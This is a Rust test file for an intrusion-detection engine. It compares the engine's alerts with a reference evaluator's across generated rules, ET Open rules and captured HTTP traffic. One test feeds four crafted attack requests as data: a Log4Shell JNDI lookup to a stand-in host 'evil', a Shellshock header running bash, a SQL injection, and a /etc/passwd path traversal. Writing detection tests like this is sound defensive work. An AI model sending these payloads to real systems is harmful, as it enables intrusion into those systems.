//! The engine against the reference evaluator: they must raise exactly the
//! same rules, on generated rules and inputs, and on real ET Open rules
//! against HTTP traffic from the shared captures and requests built from
//! the rules' own patterns. A difference means the prefilter or the
//! grouping lost (or invented) an alert.

mod support;

use proptest::prelude::*;
use sensor_engine::reference::Reference;
use sensor_engine::{BufferId, EngineBuilder, FlowDir, Input, InputKind, Scratch};
use sensor_rules::{LoadOptions, RuleSet};
use support::TestInput;

const ALPHABET: &[u8] = b"abAB/";

fn word(max: usize) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(ALPHABET), 1..=max)
        .prop_map(|v| String::from_utf8(v).unwrap())
}

fn content() -> impl Strategy<Value = String> {
    (
        word(6),
        any::<bool>(),
        0..6u8,
        prop::option::of(0..4u32),
        prop::option::of(1..6u32),
        prop::option::of(-2..3i32),
        prop::option::of(1..6u32),
    )
        .prop_map(|(w, neg, shape, off, dep, dist, within)| {
            let mut s = format!("content:{}\"{}\";", if neg { "!" } else { "" }, w);
            if shape % 2 == 1 {
                s.push_str(" nocase;");
            }
            match shape / 2 {
                0 => {
                    if let Some(o) = off {
                        s.push_str(&format!(" offset:{o};"));
                    }
                    if let Some(d) = dep {
                        s.push_str(&format!(" depth:{};", d.max(w.len() as u32)));
                    }
                }
                1 => {
                    if let Some(d) = dist {
                        s.push_str(&format!(" distance:{d};"));
                    }
                    if let Some(w2) = within {
                        s.push_str(&format!(" within:{};", w2.max(w.len() as u32)));
                    }
                }
                _ => s.push_str(if off.is_some() {
                    " startswith;"
                } else {
                    " endswith;"
                }),
            }
            s
        })
}

fn item() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => content(),
        1 => (word(2), any::<bool>(), any::<bool>()).prop_map(|(w, rel, ci)| {
            let w = w.replace('/', "\\/");
            format!("pcre:\"/{w}.?a/{}{}\";", if ci { "i" } else { "" }, if rel { "R" } else { "" })
        }),
        1 => (0..6u32, any::<bool>()).prop_map(|(n, rel)| {
            format!("isdataat:{n}{};", if rel { ",relative" } else { "" })
        }),
        1 => (0..10u64).prop_map(|n| format!("bsize:>{n};")),
    ]
}

const BUFFERS: &[&str] = &[
    "",
    "http.uri;",
    "http.user_agent;",
    "http.host;",
    "http.header;",
];

fn rule_text() -> impl Strategy<Value = String> {
    (
        0..BUFFERS.len(),
        prop::collection::vec(item(), 1..4),
        0..4usize,
        0..3usize,
        any::<bool>(),
    )
        .prop_map(|(buf, items, flow, port, both)| {
            let buffer = BUFFERS[buf];
            let proto = if buffer.is_empty() { "tcp" } else { "http" };
            let flow = [
                "",
                "flow:to_server;",
                "flow:to_client;",
                "flow:established,to_server;",
            ][flow];
            let port = ["any", "80", "!80"][port];
            let arrow = if both { "<>" } else { "->" };
            format!(
                "alert {proto} any any {arrow} any {port} (msg:\"g\"; {flow} {buffer} {} sid:SID;)",
                items.join(" ")
            )
        })
}

fn input() -> impl Strategy<Value = TestInput> {
    (
        any::<bool>(),
        prop::collection::vec(
            prop::collection::vec(prop::sample::select(ALPHABET), 0..14),
            5,
        ),
        0..3usize,
        any::<bool>(),
        any::<bool>(),
    )
        .prop_map(|(http, bufs, dir, port80, established)| {
            let mut t = if http {
                let mut t = TestInput::new(InputKind::HttpRequest);
                t.set(BufferId::HttpUri, &bufs[0])
                    .set(BufferId::HttpUserAgent, &bufs[1])
                    .set(BufferId::HttpHost, &bufs[2])
                    .set(BufferId::HttpHeader, &bufs[3]);
                t
            } else {
                TestInput::packet(&bufs[4])
            };
            t.meta.direction = FlowDir::ALL[dir];
            t.meta.established = established;
            if !port80 {
                t.meta.dst_port = Some(443);
            }
            if dir == 1 {
                t = t.reversed();
                t.meta.direction = FlowDir::ToClient;
            }
            t
        })
}

/// Compares engine and reference on every input; returns (alerts,
/// rules with a prefilter).
fn check(rules: Vec<sensor_rules::ir::Rule>, inputs: &[TestInput]) -> (usize, usize) {
    let engine = EngineBuilder::new().rules(rules.clone()).build().unwrap();
    assert!(
        engine.stats().skipped.is_empty(),
        "{:?}",
        engine.stats().skipped
    );
    let reference = Reference::new(rules).unwrap();
    let mut scratch = Scratch::new();
    let mut fired = 0;
    for input in inputs {
        let want = reference.matching_rules(input);
        let got = engine.matching_rules(input, &mut scratch).to_vec();
        assert_eq!(got, want, "input {input:?}");
        fired += got.len();
    }
    (fired, engine.stats().prefiltered)
}

/// The generator is not vacuous: its rules load, use the prefilter, and
/// fire.
#[test]
fn generated_rules_exercise_the_prefilter() {
    use proptest::strategy::ValueTree;
    use proptest::test_runner::TestRunner;
    let mut runner = TestRunner::deterministic();
    let (mut loaded, mut prefiltered, mut fired) = (0, 0, 0);
    for _ in 0..40 {
        let texts = prop::collection::vec(rule_text(), 20)
            .new_tree(&mut runner)
            .unwrap()
            .current();
        let inputs = prop::collection::vec(input(), 10)
            .new_tree(&mut runner)
            .unwrap()
            .current();
        let text: String = texts
            .iter()
            .enumerate()
            .map(|(i, t)| t.replace("SID", &(i + 1).to_string()) + "\n")
            .collect();
        let (set, _) = RuleSet::load_str("gen.rules", &text, &LoadOptions::default());
        loaded += set.len();
        let (f, p) = check(set.into_rules(), &inputs);
        fired += f;
        prefiltered += p;
    }
    assert!(loaded > 700, "{loaded} of 800 generated rules loaded");
    assert!(
        prefiltered > 200,
        "only {prefiltered} rules used the prefilter"
    );
    assert!(fired > 100, "only {fired} alerts");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn engine_equals_reference_on_generated_rules(
        texts in prop::collection::vec(rule_text(), 1..24),
        inputs in prop::collection::vec(input(), 1..12),
    ) {
        let text: String = texts
            .iter()
            .enumerate()
            .map(|(i, t)| t.replace("SID", &(i + 1).to_string()) + "\n")
            .collect();
        let (set, _) = RuleSet::load_str("gen.rules", &text, &LoadOptions::default());
        check(set.into_rules(), &inputs);
    }
}

/// ET Open files with the HTTP, TLS and DNS rules.
const ET_FILES: &[&str] = &[
    "emerging-web_specific_apps.rules",
    "emerging-user_agents.rules",
    "emerging-web_server.rules",
    "emerging-web_client.rules",
    "emerging-dns.rules",
    "emerging-policy.rules",
    "emerging-exploit.rules",
];

/// An input that carries a rule's positive contents, in order, in the
/// buffers the rule inspects, on top of a realistic request: many rules
/// fire on these, so the comparison is not vacuous.
/// Inputs made from `base` to fire about `count` of `rules`, spread over
/// the ruleset ([`input_for`]).
fn planted_inputs(
    rules: &[sensor_rules::ir::Rule],
    base: &TestInput,
    count: usize,
) -> Vec<TestInput> {
    let step = (rules.len() / count).max(1);
    rules
        .iter()
        .step_by(step)
        .filter_map(|r| input_for(r, base))
        .collect()
}

fn input_for(rule: &sensor_rules::ir::Rule, base: &TestInput) -> Option<TestInput> {
    use sensor_rules::ir::Buffer;
    let mut t = base.clone();
    let required = rule.condition.required_buffer_matches();
    if required.is_empty() {
        return None;
    }
    let mut kind = InputKind::HttpRequest;
    for b in required {
        let mut bytes = Vec::new();
        for c in b.contents().filter(|c| !c.negated) {
            bytes.extend_from_slice(&c.pattern);
        }
        let id = match &b.buffer {
            Buffer::Payload => BufferId::Payload,
            Buffer::HttpMethod => BufferId::HttpMethod,
            Buffer::HttpUri => BufferId::HttpUri,
            Buffer::HttpUriRaw => BufferId::HttpUriRaw,
            Buffer::HttpHost => BufferId::HttpHost,
            Buffer::HttpHostRaw => BufferId::HttpHostRaw,
            Buffer::HttpUserAgent => BufferId::HttpUserAgent,
            Buffer::HttpHeader => BufferId::HttpHeader,
            Buffer::HttpHeaderRaw => BufferId::HttpHeaderRaw,
            Buffer::HttpHeaderNames => BufferId::HttpHeaderNames,
            Buffer::HttpCookie => BufferId::HttpCookie,
            Buffer::HttpRequestLine => BufferId::HttpRequestLine,
            Buffer::HttpContentType => BufferId::HttpContentType,
            Buffer::HttpAccept => BufferId::HttpAccept,
            Buffer::HttpReferer => BufferId::HttpReferer,
            Buffer::HttpStatCode => {
                kind = InputKind::HttpResponse;
                BufferId::HttpStatCode
            }
            Buffer::TlsSni => {
                kind = InputKind::Tls;
                BufferId::TlsSni
            }
            Buffer::DnsQuery => {
                kind = InputKind::Dns;
                BufferId::DnsQuery
            }
            _ => continue,
        };
        t.set(id, &bytes);
    }
    t.meta.kind = kind;
    // Addresses and ports the rule's header admits.
    let h = &rule.header;
    let pick = |set: &sensor_rules::ir::AddressSet, dflt| {
        set.v4
            .ranges()
            .first()
            .map_or(dflt, |r| std::net::IpAddr::V4((*r.start()).max(1).into()))
    };
    t.meta.src = pick(&h.src, t.meta.src);
    t.meta.dst = pick(&h.dst, t.meta.dst);
    if let Some(r) = h
        .dst_ports
        .ranges()
        .first()
        .filter(|_| !h.dst_ports.is_full())
    {
        t.meta.dst_port = Some(*r.start());
    }
    if let Some(r) = h
        .src_ports
        .ranges()
        .first()
        .filter(|_| !h.src_ports.is_full())
    {
        t.meta.src_port = Some(*r.start());
    }
    match kind {
        InputKind::HttpResponse => t.meta.direction = FlowDir::ToClient,
        InputKind::Dns => {
            t.meta.ip_proto = 17;
            t.meta.dst_port = Some(53);
            t.meta.dns_query = true;
        }
        InputKind::Tls => {
            t.meta.dst_port = Some(443);
            t.meta.tls_client_hello = true;
        }
        _ => {}
    }
    Some(t)
}

#[test]
fn engine_equals_reference_on_et_open() {
    let rules = support::et_open(ET_FILES);
    assert!(
        rules.len() > 5_000,
        "only {} ET Open rules loaded",
        rules.len()
    );
    let engine = EngineBuilder::new().rules(rules.clone()).build().unwrap();
    let stats = engine.stats();
    let loaded: Vec<_> = {
        let skipped: std::collections::HashSet<_> =
            stats.skipped.iter().filter_map(|e| e.rule).collect();
        rules
            .into_iter()
            .filter(|r| !skipped.contains(&(r.gid, r.sid)))
            .collect()
    };
    let reference = Reference::new(loaded.clone()).unwrap();

    let mut inputs: Vec<TestInput> = support::pcap_http_inputs();
    inputs.dedup_by(|a, b| a.buffers().eq(b.buffers()));
    inputs.truncate(100);
    inputs.extend(support::browser_http_inputs());
    let queries: Vec<TestInput> = inputs
        .iter()
        .filter_map(|i| i.buffer(BufferId::HttpHost))
        .map(|h| support::dns_query(h, 1))
        .take(30)
        .collect();
    inputs.extend(queries);
    inputs.extend(support::pcap_tls_inputs());
    let from_pcaps = inputs.len();
    assert!(from_pcaps > 50, "only {from_pcaps} HTTP heads in the pcaps");
    let base = inputs
        .iter()
        .find(|i| i.meta.kind == InputKind::HttpRequest)
        .expect("a request")
        .clone();
    inputs.extend(planted_inputs(&loaded, &base, 300));

    let mut scratch = Scratch::new();
    let mut fired = std::collections::HashSet::new();
    for input in &inputs {
        let want = reference.matching_rules(input);
        let got = engine.matching_rules(input, &mut scratch).to_vec();
        if got != want {
            let names = |v: &[u32]| {
                v.iter()
                    .map(|&i| loaded[i as usize].sid)
                    .collect::<Vec<_>>()
            };
            panic!(
                "engine {:?} != reference {:?} on {input:?}",
                names(&got),
                names(&want)
            );
        }
        fired.extend(got);
    }
    eprintln!(
        "{} rules, {} inputs ({} from pcaps), {} distinct rules fired",
        loaded.len(),
        inputs.len(),
        from_pcaps,
        fired.len()
    );
    assert!(fired.len() >= 100, "only {} rules fired", fired.len());
}

#[test]
fn pcap_tls_client_hellos_parse() {
    let hellos = support::pcap_tls_inputs();
    assert!(hellos.len() >= 5, "only {} ClientHellos", hellos.len());
    for h in &hellos {
        let sni = h.buffer(BufferId::TlsSni).unwrap();
        assert!(sni.iter().all(|c| c.is_ascii_graphic()), "{sni:?}");
    }
}

fn native_leaf() -> impl Strategy<Value = String> {
    (0..8usize, word(5), any::<bool>()).prop_map(|(k, w, ci)| {
        let nocase = if ci { " nocase" } else { "" };
        match k {
            0 => format!("http.uri contains \"{w}\"{nocase}"),
            1 => format!("http.user_agent startswith \"{w}\""),
            2 => format!("http.header[\"x-a\"] contains \"{w}\"{nocase}"),
            3 => format!("any(http.header.value) contains \"{w}\""),
            4 => format!("all(http.header.value) contains \"{w}\""),
            5 => format!("http.uri matches /{}b/", w.replace('/', "\\/")),
            6 => format!("http.host endswith \"{w}\""),
            _ => "tcp.dst_port in [80]".to_string(),
        }
    })
}

fn native_expr() -> impl Strategy<Value = String> {
    native_leaf().prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} and {b})")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} or {b})")),
            inner.prop_map(|a| format!("not ({a})")),
        ]
    })
}

fn http_input() -> impl Strategy<Value = TestInput> {
    (
        input(),
        prop::collection::vec(
            (
                prop::sample::select(vec!["x-a", "X-B", "x-c"]),
                prop::collection::vec(prop::sample::select(ALPHABET), 0..10),
            ),
            0..4,
        ),
    )
        .prop_map(|(mut t, headers)| {
            t.meta.kind = InputKind::HttpRequest;
            t.meta.direction = FlowDir::ToServer;
            t.headers = headers
                .into_iter()
                .map(|(n, v)| (n.as_bytes().to_vec(), v))
                .collect();
            t
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn engine_equals_reference_on_native_rules(
        exprs in prop::collection::vec(native_expr(), 1..16),
        inputs in prop::collection::vec(http_input(), 1..10),
    ) {
        let text: String = exprs
            .iter()
            .enumerate()
            .map(|(i, e)| format!("rule {} \"g\" {{ when http.request and {e} }}\n", i + 1))
            .collect();
        let (set, diags) = RuleSet::load_str("gen.vigil", &text, &LoadOptions::default());
        prop_assert_eq!(set.len(), exprs.len(), "{:?}", diags);
        check(set.into_rules(), &inputs);
    }
}

/// The project's default native ruleset against HTTP from the captures and
/// requests carrying what its rules look for.
#[test]
fn engine_equals_reference_on_default_ruleset() {
    let path = std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules"));
    let (set, _) = RuleSet::load(&[path], &LoadOptions::default());
    assert!(set.len() >= 5, "only {} default rules", set.len());
    let mut inputs = support::pcap_http_inputs();
    inputs.truncate(200);
    for head in [
        &b"GET /?q=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://x/y}\r\n\r\n"[..],
        b"GET /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n\r\n",
        b"GET /item?id=1%20union%20select%201 HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.6\r\n\r\n",
        b"GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\nAuthorization: Basic Zm9vOmJhcg==\r\n\r\n",
    ] {
        inputs.push(support::http_request(head).unwrap());
    }
    let (fired, _) = check(set.into_rules(), &inputs);
    assert!(fired >= 3, "only {fired} alerts on crafted attacks");
}

/// IP reputation rules (no content, narrow address sets: found through
/// the address index) against packets to and from their addresses.
#[test]
fn engine_equals_reference_on_ip_reputation_rules() {
    let rules = support::et_open(&[
        "ciarmy.rules",
        "compromised.rules",
        "botcc.rules",
        "tor.rules",
    ]);
    assert!(rules.len() > 50, "only {} reputation rules", rules.len());
    let mut inputs = Vec::new();
    let pick = |set: &sensor_rules::ir::AddressSet, i: usize| {
        let ranges = set.v4.ranges();
        (!set.is_any() && !ranges.is_empty())
            .then(|| std::net::IpAddr::V4((*ranges[i % ranges.len()].start()).into()))
    };
    for (i, r) in rules.iter().enumerate().step_by(3) {
        let mut t = TestInput::packet(b"payload");
        t.meta.ip_proto = [6, 17, 1][i % 3];
        t.meta.direction = FlowDir::ALL[i % 3];
        if let Some(a) = pick(&r.header.src, i) {
            t.meta.src = a;
        }
        if let Some(a) = pick(&r.header.dst, i) {
            t.meta.dst = a;
        }
        inputs.push(t.clone());
        // And the same packet the other way.
        inputs.push(t.reversed());
    }
    let (fired, _) = check(rules, &inputs);
    assert!(fired > 20, "only {fired} alerts");
}

/// Rules found by a literal at the start or end of a buffer (instead of a
/// short fast pattern, or of none), and rules whose `fast_pattern` is in
/// another buffer than their longest content, against user agents, hosts
/// and methods that do and do not start or end with them, in either case.
#[test]
fn engine_equals_reference_on_anchored_and_marked_fast_patterns() {
    let rules = support::rules(concat!(
        r#"alert http any any -> any any (msg:"us"; flow:to_server; http.user_agent; content:"_"; depth:1; endswith; sid:1;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"brace"; flow:to_server; http.user_agent; content:"{"; depth:1; fast_pattern; pcre:"/^\{[a-f0-9]{4}\}/i"; sid:2;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"x"; flow:to_server; http.user_agent; content:"x"; nocase; startswith; sid:3;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"X"; flow:to_server; http.user_agent; content:"X"; depth:1; sid:4;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"p"; flow:to_server; http.method; content:"P"; offset:0; depth:1; http.uri; content:"/"; depth:1; sid:5;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"dash"; flow:to_server; http.user_agent; content:"-"; offset:1; depth:1; sid:6;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"marked"; flow:to_server; http.method; content:"GET"; http.user_agent; content:"|22 3b|"; content:"|3b 22|"; endswith; fast_pattern; sid:7;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"tld"; flow:to_server; http.host; content:".ru"; endswith; fast_pattern; sid:8;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"ie"; flow:to_server; http.user_agent; content:"ie"; depth:2; endswith; sid:9;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"app"; flow:to_server; http.user_agent; content:"App"; depth:3; fast_pattern; http.host; content:!"example.ru"; sid:10;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"mo"; flow:to_server; http.user_agent; content:"Mo"; startswith; content:"zilla"; distance:0; sid:11;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"deep"; flow:to_server; http.user_agent; content:"ab"; depth:3; sid:12;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"whole"; flow:to_server; http.user_agent; content:"Mozilla"; bsize:7; sid:13;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"whole fp"; flow:to_server; http.user_agent; content:"App"; fast_pattern; bsize:3; http.host; content:!"a.ru"; sid:14;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"whole other"; flow:to_server; http.method; content:"GET"; bsize:3; http.user_agent; content:"zilla"; sid:15;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"whole rel"; flow:to_server; http.user_agent; content:"x"; bsize:2; content:"ab"; distance:0; sid:16;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"whole two"; flow:to_server; http.user_agent; content:"IE"; bsize:2; content:"i"; depth:1; sid:17;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"start end"; flow:to_server; http.user_agent; content:"Firefox"; depth:7; endswith; sid:18;)"#,
        "\n",
        r#"alert http any any -> any any (msg:"startswith end"; flow:to_server; http.user_agent; content:"fire"; nocase; startswith; endswith; sid:19;)"#,
    ));
    let mut inputs = Vec::new();
    for ua in [
        &b"_"[..],
        b"__",
        b"a_",
        b"{beef}",
        b"{BEEF}",
        b"{zzzz}",
        b"x",
        b"X-agent",
        b"xyz",
        b"-",
        b"a-",
        b"a\";b;\"",
        b"",
        b"ie",
        b"IE",
        b"iex",
        b"xie",
        b"App/1.0",
        b"app",
        b"Mozilla/5.0",
        b"mo zilla",
        b"Mo",
        b"xab",
        b"ab",
        b"Mozilla",
        b"mozillA",
        b"Mozilla ",
        b"xMozilla",
        b"Mozill",
        b"Firefox",
        b"firefox",
        b"Firefox/1",
        b"xFirefox",
        b"FIRE",
        b"fire ",
    ] {
        for (method, host) in [
            ("GET", "h"),
            ("POST", "a.ru"),
            ("PUT", "A.RU"),
            ("GET", "example.ru"),
            ("POST", "a.rux"),
            ("GET", "ru"),
        ] {
            let mut head =
                format!("{method} /a HTTP/1.1\r\nHost: {host}\r\nUser-Agent: ").into_bytes();
            head.extend_from_slice(ua);
            head.extend_from_slice(b"\r\n\r\n");
            inputs.push(support::http_request(&head).unwrap_or_else(|| {
                support::http_request(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n").unwrap()
            }));
        }
    }
    let engine = EngineBuilder::new().rules(rules.clone()).build().unwrap();
    assert_eq!(
        engine.stats().always_checked,
        1,
        "only sid 6 is checked always"
    );
    let (fired, _) = check(rules, &inputs);
    assert!(fired >= 10, "only {fired} alerts");
}

/// Scans of repeating header values (user agent, host, cookie) are
/// remembered in the scratch and replayed: a worker that has seen the
/// values raises exactly what a fresh scratch raises, through a session
/// whose requests share them, and after values that pushed them out.
#[test]
fn remembered_scans_equal_fresh_ones() {
    let rules = support::et_open(ET_FILES);
    let engine = EngineBuilder::new().rules(rules.clone()).build().unwrap();
    let mut inputs = support::browser_http_inputs();
    // Inputs made to fire rules, most with the session's user agent and
    // host (the others with a rule's user agent or host planted).
    let base = inputs[0].clone();
    inputs.extend(planted_inputs(&rules, &base, 400));
    // Both orders, twice: values come back after others evicted them.
    let order: Vec<&TestInput> = inputs
        .iter()
        .chain(inputs.iter().rev())
        .chain(inputs.iter())
        .collect();
    let mut shared = Scratch::new();
    let mut fired = 0;
    for input in order {
        let fresh = engine.matching_rules(input, &mut Scratch::new()).to_vec();
        let got = engine.matching_rules(input, &mut shared).to_vec();
        assert_eq!(got, fresh, "input {input:?}");
        fired += got.len();
    }
    assert!(fired > 0, "no rule fired: the comparison is vacuous");
}
